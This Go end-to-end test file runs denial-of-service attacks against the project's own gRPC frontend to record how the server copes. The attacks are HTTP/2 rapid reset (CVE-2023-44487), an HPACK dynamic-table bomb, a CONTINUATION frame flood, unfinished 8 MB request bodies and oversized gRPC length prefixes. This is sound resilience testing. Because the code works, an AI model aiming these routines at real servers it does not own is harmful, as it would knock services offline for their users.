package e2e

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset opens rapidResetConns connections to f and on each sends, as
// fast as the server's windows allow, HEADERS and DATA of a B = 1 call
// immediately followed by RST_STREAM(CANCEL), up to
// RECMESH_ABUSE_RESET_STREAMS (20,000) streams per connection or 8 s
// (CVE-2023-44487): every call is started and abandoned, so the attacker
// pays nothing for the work it causes.
func (a *abuseRun) rapidReset(t *testing.T, f *abuseFrontend) (string, error) {
	const conns = 4
	perConn := envInt("RECMESH_ABUSE_RESET_STREAMS", 20000)
	msg, err := grpcMessage(a.w.reqs[0])
	if err != nil {
		return "", err
	}
	end := time.Now().Add(8 * time.Second)
	var sent atomic.Int64
	var mu sync.Mutex
	var ends []string
	var wg sync.WaitGroup
	var dialErr error
	for k := 0; k < conns; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			h, err := dialH2(f.addr())
			if err != nil {
				mu.Lock()
				dialErr = err
				mu.Unlock()
				return
			}
			defer h.close()
			why := "all sent"
			for i := 0; i < perConn; i++ {
				if time.Now().After(end) {
					why = "time up"
					break
				}
				if h.gone() {
					why = "server ended the connection"
					break
				}
				id := uint32(2*i + 1)
				err := h.writeHeaders(id, grpcHeaders(f.addr()), false)
				if err == nil {
					err = h.writeData(id, msg, true, 2*time.Second)
				}
				if err == nil || errors.Is(err, errStreamEnded) {
					err = h.writeRST(id, http2.ErrCodeCancel)
				}
				if err != nil {
					why = "stopped: " + err.Error()
					break
				}
				sent.Add(1)
			}
			mu.Lock()
			ends = append(ends, fmt.Sprintf("[%s; %s]", why, h.outcome()))
			mu.Unlock()
		}()
	}
	wg.Wait()
	if sent.Load() == 0 && dialErr != nil {
		return "", dialErr
	}
	return fmt.Sprintf("streams_reset=%d conns=%s", sent.Load(), strings.Join(ends, "")), nil
}

// hpackBomb sends one ~4 KB x-bomb-bin field, added to the server's HPACK
// dynamic table, then header blocks that reference it bombRefs times each
// (1 byte per reference, ~4 KB on the wire, ~16 MiB decoded, and a -bin
// value that gRPC base64-decodes into metadata), on 32 streams of one
// connection, held open 3 s.
func (a *abuseRun) hpackBomb(t *testing.T, f *abuseFrontend) (string, error) {
	h, err := dialH2(f.addr())
	if err != nil {
		return "", err
	}
	defer h.close()
	raw := make([]byte, 3039) // 4,052 base64 characters: the entry is 4,094 bytes
	if _, err := rand.Read(raw); err != nil {
		return "", err
	}
	bomb := hpack.HeaderField{Name: "x-bomb-bin", Value: base64.StdEncoding.EncodeToString(raw)}
	h.mu.Lock()
	table, advertised := h.headerTable, h.maxHeaderList
	h.mu.Unlock()
	// Just under 16 MiB decoded, grpc-go's default header list limit, so
	// a server with defaults decodes every reference: ~4,100.
	refs := envInt("RECMESH_ABUSE_BOMB_REFS", int((16<<20-1024)/bomb.Size()))
	note := ""
	if bomb.Size() > table {
		// The server keeps no table big enough: the field would go as a
		// literal each time, which is no bomb (and 16 MiB per stream).
		note = fmt.Sprintf(" table_too_small_for_bomb=%d", table)
		refs = 1
	}
	fields := grpcHeaders(f.addr())
	for i := 0; i < refs; i++ {
		fields = append(fields, bomb)
	}
	const streams = 32
	sent := 0
	var werr error
	for i := 0; i < streams; i++ {
		if werr = h.writeHeaders(uint32(2*i+1), fields, false); werr != nil {
			break
		}
		sent++
	}
	// Held open: a server that keeps the decoded metadata keeps it now.
	_ = h.waitFor(3*time.Second, func() bool { return false })
	return fmt.Sprintf("streams=%d refs=%d entry_bytes=%d server_table=%d server_max_header_list=%d write_err=%q%s %s ended=%s",
		sent, refs, bomb.Size(), table, advertised, errString(werr), note, h.outcome(), h.endedSummary()), nil
}

// continuationFlood opens 16 connections to f; on each, HEADERS without
// END_HEADERS, then CONTINUATION frames full of literal fields, never
// ending the block, up to RECMESH_ABUSE_CONTINUATION_MIB (15) MiB or until
// the server stops reading or closes (CVE-2024-27316 and kin).
func (a *abuseRun) continuationFlood(t *testing.T, f *abuseFrontend) (string, error) {
	const conns = 16
	limit := int64(envInt("RECMESH_ABUSE_CONTINUATION_MIB", 15)) << 20
	// One frame's worth of never-indexed literal fields, encoded once
	// (they do not touch the dynamic table, so every frame can repeat it).
	var blk bytes.Buffer
	enc := hpack.NewEncoder(&blk)
	for i := 0; blk.Len() < 15<<10; i++ {
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-flood-%d", i), Value: strings.Repeat("a", 1000), Sensitive: true})
	}
	chunk := blk.Bytes()
	end := time.Now().Add(20 * time.Second)
	var mu sync.Mutex
	var accepted []int64
	var outcomes []string
	var dialErr error
	var wg sync.WaitGroup
	for k := 0; k < conns; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			h, err := dialH2(f.addr())
			if err != nil {
				mu.Lock()
				dialErr = err
				mu.Unlock()
				return
			}
			defer h.close()
			var hb bytes.Buffer
			e := hpack.NewEncoder(&hb)
			for _, hf := range grpcHeaders(f.addr()) {
				_ = e.WriteField(hf)
			}
			var n int64
			err = h.write(func() error {
				return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes()})
			})
			for err == nil && n < limit && time.Now().Before(end) && !h.gone() {
				err = h.write(func() error { return h.fr.WriteContinuation(1, false, chunk) })
				if err == nil {
					n += int64(len(chunk))
				}
			}
			why := "limit reached"
			switch {
			case err != nil:
				why = "write failed: " + err.Error()
			case h.gone():
				why = "server ended the connection"
			case n < limit:
				why = "time up"
			}
			mu.Lock()
			accepted = append(accepted, n)
			if len(outcomes) < 3 {
				outcomes = append(outcomes, fmt.Sprintf("[%s; %s]", why, h.outcome()))
			}
			mu.Unlock()
		}()
	}
	wg.Wait()
	if len(accepted) == 0 {
		return "", dialErr
	}
	sort.Slice(accepted, func(i, j int) bool { return accepted[i] < accepted[j] })
	refused := 0
	for _, n := range accepted {
		if n < limit {
			refused++
		}
	}
	return fmt.Sprintf("conns=%d cut_off=%d accepted_kib_min=%d accepted_kib_max=%d first=%s",
		len(accepted), refused, accepted[0]>>10, accepted[len(accepted)-1]>>10, strings.Join(outcomes, "")), nil
}

// unfinishedBodies opens 40 streams on one connection to f; each declares
// an 8 MB message in its gRPC prefix (RECMESH_ABUSE_BODY_BYTES, 8,000,000:
// just under the frontend's largest request, 4,096 examples of INT64 ids
// plus 1 MiB, so it is not refused at the prefix) and sends all of it but
// the last byte, as far as the server's windows let it, then stays idle
// for 3 s: a server that buffers bodies until they end holds 320 MB.
func (a *abuseRun) unfinishedBodies(t *testing.T, f *abuseFrontend) (string, error) {
	const streams = 40
	size := envInt("RECMESH_ABUSE_BODY_BYTES", 8_000_000)
	h, err := dialH2(f.addr())
	if err != nil {
		return "", err
	}
	defer h.close()
	left := map[uint32]int{}
	for i := 0; i < streams; i++ {
		id := uint32(2*i + 1)
		if err := h.writeHeaders(id, grpcHeaders(f.addr()), false); err != nil {
			return fmt.Sprintf("headers_sent=%d write_err=%q %s", i, err, h.outcome()), nil
		}
		left[id] = 5 + size - 1
	}
	// Each stream's bytes: the prefix, then zeros; done counts what went.
	prefix := grpcPrefix(0, uint32(size))
	done := map[uint32]int{}
	buf := make([]byte, 256<<10)
	var sent int64
	why := ""
	deadline := time.Now().Add(30 * time.Second)
	for len(left) > 0 && why == "" {
		progress := false
		for id, n := range left {
			want := min(h.available(id), n, len(buf))
			if h.streamEnded(id) != "" || want == 0 {
				if h.streamEnded(id) != "" {
					delete(left, id)
				}
				continue
			}
			got, err := h.reserve(id, want, time.Second)
			if err != nil {
				continue // the stream ended meanwhile
			}
			chunk := buf[:got]
			clear(chunk)
			if o := done[id]; o < len(prefix) {
				copy(chunk, prefix[o:])
			}
			if err := h.write(func() error { return h.fr.WriteData(id, false, chunk) }); err != nil {
				why = "write failed: " + err.Error()
				break
			}
			sent += int64(got)
			done[id] += got
			if left[id] = n - got; left[id] == 0 {
				delete(left, id)
			}
			progress = true
		}
		switch {
		case why != "":
		case time.Now().After(deadline):
			why = "time up"
		case h.gone():
			why = "server ended the connection"
		case !progress && len(left) > 0:
			// The server grants no window: it holds us where it wants
			// us, which is a defence. Wait a while for more, then stop.
			if err := h.waitFor(3*time.Second, func() bool {
				for id := range left {
					if h.ended[id] != "" || h.connWin > 0 && h.streamWin[id] > 0 {
						return true
					}
				}
				return false
			}); err != nil {
				why = "held by flow control: " + err.Error()
			}
		}
	}
	if why == "" {
		why = "every stream sent all but its last byte or was ended by the server"
	}
	_ = h.waitFor(3*time.Second, func() bool { return false }) // idle, bodies unfinished
	return fmt.Sprintf("sent_mib=%d stop=%q %s ended=%s", sent>>20, why, h.outcome(), h.endedSummary()), nil
}

// hugePrefixes sends calls whose gRPC prefix declares 4 GiB-1 and other
// sizes no frontend should allocate for, with a little body, and reads
// how each is answered: refused at once (RESOURCE_EXHAUSTED or the like),
// or only when the stream ends, or not at all.
func (a *abuseRun) hugePrefixes(t *testing.T, f *abuseFrontend) (string, error) {
	h, err := dialH2(f.addr())
	if err != nil {
		return "", err
	}
	defer h.close()
	cases := []struct {
		name      string
		flag      byte
		n         uint32
		endStream bool // end the stream right after the prefix and 1 KiB
	}{
		{"4GiB-1", 0, 1<<32 - 1, false},
		{"4GiB-1_compressed", 1, 1<<32 - 1, false},
		{"4GiB-2", 0, 1<<32 - 2, false},
		{"2GiB", 0, 1 << 31, false},
		{"2GiB-1", 0, 1<<31 - 1, false},
		{"1GiB", 0, 1 << 30, false},
		{"64MiB", 0, 64 << 20, false},
		{"4GiB-1_truncated", 0, 1<<32 - 1, true},
		{"bad_flag", 7, 100, true},
	}
	var results []string
	for i, c := range cases {
		id := uint32(2*i + 1)
		data := append(grpcPrefix(c.flag, c.n), make([]byte, 1024)...)
		err := h.writeHeaders(id, grpcHeaders(f.addr()), false)
		if err == nil {
			err = h.writeData(id, data, c.endStream, 3*time.Second)
		}
		if err != nil && !errors.Is(err, errStreamEnded) {
			results = append(results, fmt.Sprintf("%s:write_err(%v)", c.name, err))
			break
		}
		when := "at_once"
		if h.waitFor(3*time.Second, func() bool { return h.ended[id] != "" }) != nil && !c.endStream {
			// Not answered on the prefix: end the stream, which must
			// bring an answer now.
			when = "at_end"
			_ = h.writeData(id, nil, true, time.Second)
			if h.waitFor(3*time.Second, func() bool { return h.ended[id] != "" }) != nil {
				when = "never"
			}
		}
		results = append(results, fmt.Sprintf("%s:%s(%s)", c.name, when, h.streamEnded(id)))
	}
	return fmt.Sprintf("answers=%s %s", strings.Join(results, ","), h.outcome()), nil
}

// endedSummary counts how the server ended the connection's streams.
func (h *h2raw) endedSummary() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	by := map[string]int{}
	for _, e := range h.ended {
		by[e]++
	}
	var parts []string
	for e, n := range by {
		parts = append(parts, fmt.Sprintf("%s×%d", e, n))
	}
	sort.Strings(parts)
	if len(parts) == 0 {
		return "none"
	}
	return strings.Join(parts, ",")
}
